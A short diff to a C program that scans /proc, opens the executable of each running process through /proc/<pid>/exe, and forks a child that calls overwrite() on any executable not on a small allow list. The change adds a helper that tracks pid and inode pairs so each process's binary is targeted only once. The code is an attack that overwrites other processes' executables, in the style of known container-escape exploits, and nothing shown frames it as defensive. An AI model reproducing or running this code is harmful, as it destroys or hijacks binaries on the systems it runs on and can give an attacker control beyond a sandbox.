@@ -17,6 +17,19 @@
 static struct stat known[8];
 static int known_count;
 
+/* Each executable of a process once, as processes are met many times while they live. */
+static int is_new(int pid, int fd) {
+    static struct { int pid; ino_t file; } met[16];
+    static int next;
+    struct stat seen;
+    if (fstat(fd, &seen) != 0) return 0;
+    for (int i = 0; i < 16; i++)
+        if (met[i].pid == pid && met[i].file == seen.st_ino) return 0;
+    met[next].pid = pid, met[next].file = seen.st_ino;
+    next = (next + 1) % 16;
+    return 1;
+}
+
 static void know(const char *path) {
     if (known_count < 8 && stat(path, &known[known_count]) == 0) known_count++;
 }
@@ -66,7 +79,7 @@ int main(int argc, char **argv) {
             snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
             int fd = open(path, O_PATH);
             if (fd < 0) continue;
-            if (!is_known(fd)) {
+            if (!is_known(fd) && is_new(atoi(entry->d_name), fd)) {
                 printf("opened an executable of %s\n", entry->d_name);
                 children++;
                 if (fork() == 0) overwrite(fd);
